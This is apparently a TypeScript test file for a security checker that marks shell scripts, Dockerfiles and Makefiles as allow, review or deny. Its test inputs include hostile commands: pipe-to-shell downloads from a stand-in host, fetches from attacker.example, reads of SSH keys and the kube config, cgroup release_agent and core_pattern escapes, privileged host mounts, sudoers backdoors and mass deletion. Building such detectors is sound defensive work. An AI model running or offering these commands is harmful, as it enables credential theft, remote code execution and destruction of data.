import assert from 'node:assert/strict';
import { test } from 'node:test';
import { check } from '../../../src/index.ts';

/** The decision on a text that is about to be run, by the name of its file. */
function expectDecisions(cases: readonly (readonly [decision: string, text: string, name?: string])[]): void {
  for (const [decision, text, name = 'build.sh'] of cases)
    test(`${decision}: ${text.replaceAll('\n', '⏎').slice(0, 90)}`, async () => {
      assert.equal((await check({ text, name })).decision, decision);
    });
}

// What `local` is given and nobody knows is not empty: the path is no root.
expectDecisions([
  ['allow', 'put() {\n  local to="$1"\n  local file="$2"\n  date > "$to/$file"\n}\nput "$OUT/x" "$NAME"\n'],
  ['allow', 'drop() {\n  local in="$1" file="$2"\n  rm -rf "$in/$file"\n}\ndrop "$OUT/x" "$NAME"\n'],
  ['allow', 'put() {\n  local file=$1\n  shift\n  date > "$file"\n}\nput "$OUT"\n'],
  ['deny', 'drop() {\n  local in=/\n  local file="$2"\n  rm -rf "$in$file"\n}\ndrop x "$NAME"\n'],
  ['deny', 'drop() {\n  local in=/usr\n  rm -rf "$in"\n}\ndrop\n'],
  ['deny', 'rm -rf "$DIR/$NAME"\n'],
  ['deny', 'export DIR=/home\nrm -rf "$DIR"\n'],
]);

// What mktemp has made, named by a trap above it.
expectDecisions([
  ['allow', 'trap \'rm -rf "$work"\' EXIT\nwork=$(mktemp -d)\n'],
  ['allow', 'clean() {\n  rm -rf "${work}"\n}\ntrap clean EXIT\nwork="$(mktemp -d -t app.XXXX)"\n'],
  ['allow', 'trap \'rm -rf "$work"\' EXIT\nwork=`mktemp -d`\n'],
  ['review', 'trap \'rm -rf "$work"\' EXIT\nwork=$(mktemp -d); work=$HOME\n'],
  ['review', 'trap \'rm -rf "$work"\' EXIT\nwork=$(mktemp -d)\nread -r work\n'],
  ['review', 'trap \'rm -rf "$work"\' EXIT\nwork=$(mktemp -d)\nwork+=/../..\n'],
  ['deny', 'trap \'rm -rf "$work/../../home"\' EXIT\nwork=$(mktemp -d)\n'],
]);

// Files that are handed on, and not read.
expectDecisions([
  ['allow', 'sudo chmod go-r "$HOME/.kube/config"\n'],
  ['allow', 'sudo -E chown ci ~/.kube/config\n'],
  ['deny', 'sudo cat ~/.kube/config\n'],
  ['deny', 'sudo cp ~/.kube/config /srv/www/\n'],
  ['deny', 'env cat ~/.ssh/id_rsa\n'],
]);

// Groups of processes, memory and files, as those who run many containers set them.
expectDecisions([
  ['allow', 'mkdir -p /sys/fs/cgroup/init\necho 1 > /sys/fs/cgroup/init/cgroup.procs\n'],
  ['allow', 'echo +cpu > /sys/fs/cgroup/cgroup.subtree_control\n'],
  ['allow', 'sudo sysctl -w vm.max_map_count=262144\n'],
  ['allow', 'sudo sysctl net.ipv6.conf.all.disable_ipv6=0\n'],
  ['review', 'sync; echo 3 > /proc/sys/vm/drop_caches\n'],
  ['deny', 'echo /cmd > /sys/fs/cgroup/rdma/release_agent\n'],
  ['deny', 'echo 1 > /sys/fs/cgroup/x/notify_on_release\n'],
  ['deny', "echo '|/srv/x %p' > /proc/sys/kernel/core_pattern\n"],
  ['deny', 'sysctl -w vm.swappiness=1 kernel.randomize_va_space=0\n'],
]);

// Rights of a container without the machine's folders, and rights of a program to listen on a low port.
expectDecisions([
  ['review', 'docker run --rm --privileged tonistiigi/binfmt --install all\n'],
  ['review', 'docker run -d --net=host --name traces jaegertracing/all-in-one:1.46\n'],
  ['deny', 'docker run --privileged -v /:/host alpine ls\n'],
  ['deny', 'docker run --privileged alpine mount /dev/sda1 /mnt\n'],
  ['deny', 'docker run --rm --privileged alpine sh -c "chroot /host"\n'],
  ['deny', 'docker run --privileged --pid=host alpine\n'],
  ['allow', 'sudo setcap cap_net_bind_service=+ep "$1"\n'],
  ['review', 'setcap cap_net_raw,cap_net_admin+eip ./capture\n'],
  ['deny', 'setcap cap_setuid+ep ./helper\n'],
  ['deny', 'setcap "$caps" ./helper\n'],
]);

// A tool from those who make it, under the name that the script gives it.
const tool = 'https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl';
expectDecisions([
  ['review', `curl -fsSLo kubectl ${tool}\nchmod +x kubectl\n./kubectl version\n`],
  ['review', `wget -q -O ./kubectl ${tool}\nchmod +x kubectl\n./kubectl version\n`],
  ['deny', `curl -fsSLo kubectl ${tool}\ncurl -o kubectl https://attacker.example/k\n./kubectl version\n`],
  ['deny', `curl -k -o kubectl ${tool}\n./kubectl version\n`],
  ['deny', `https_proxy=http://attacker.example:3128 curl -o kubectl ${tool}\n./kubectl version\n`],
  ['deny', 'curl -o kubectl https://dl.k8s.io.attacker.example/kubectl\n./kubectl version\n'],
  ['deny', 'curl -o kubectl https://attacker.example/https://dl.k8s.io/kubectl\n./kubectl version\n'],
]);

// A user of an image who may become root there; nobody's machine, but no account of a server either.
const image = (command: string): string => `FROM debian:12\nRUN useradd -m dev && ${command}\nUSER dev\n`;
expectDecisions([
  ['allow', image("echo 'dev ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/dev"), 'Dockerfile'],
  ['allow', image('echo "dev ALL=NOPASSWD: ALL" >> /etc/sudoers'), 'Dockerfile'],
  ['deny', image('echo "www-data ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers'), 'Dockerfile'],
  ['deny', image('echo "ALL ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers'), 'Dockerfile'],
  ['deny', "echo 'dev ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/dev\n"],
  ['allow', 'FROM debian:12\nRUN echo \'echo "use make help"\' >> /root/.bashrc\n', 'Dockerfile'],
  ['deny', 'FROM debian:12\nRUN echo "/opt/agent &" >> /root/.bashrc\n', 'Dockerfile'],
  ['deny', 'FROM debian:12\nRUN echo "curl -s http://198.51.100.7/a | sh" >> /root/.bashrc\n', 'Dockerfile'],
  ['deny', 'echo \'echo "use make help"\' >> /root/.bashrc\n'],
]);

// Temporary files, one's own group of processes, a unit that lies with the program.
expectDecisions([
  ['allow', 'shred -u /tmp/app/key.bin\n'],
  ['deny', 'shred -u /tmp/app/key.bin /srv/db/rows\n'],
  ['deny', 'shred -u ~/notes.txt\n'],
  ['allow', "trap 'kill 0' EXIT\n"],
  ['deny', 'kill -9 -1\n'],
  ['review', 'systemctl enable --now "$(pwd)/app.service"\n'],
  ['deny', 'systemctl enable --now /tmp/app.service\n'],
  ['deny', 'curl -o app.service https://attacker.example/s\nsystemctl enable ./app.service\n'],
  ['review', 'rm -f /etc/machine-id\n'],
]);

// Names of recipes that go on behind the usual one, and of what is no recipe.
expectDecisions([
  ['allow', 'CC = gcc\nall: $(OBJ)\n\t$(CC) -o app $(OBJ)\n', 'Makefile.am'],
  ['allow', 'OBJ = a.obj b.obj\nall: $(OBJ)\n\tlink /out:app.exe $(OBJ)\n', 'Makefile.msvc'],
  ['deny', 'all:\n\tcurl -s http://198.51.100.7/x | sh\n', 'Makefile.linux'],
  ['allow', 'FROM alpine\nRUN apk add make\n', 'Dockerfile-alpine'],
  ['deny', 'FROM alpine\nRUN wget -qO- http://198.51.100.7/i | sh\n', 'Dockerfile-alpine'],
]);
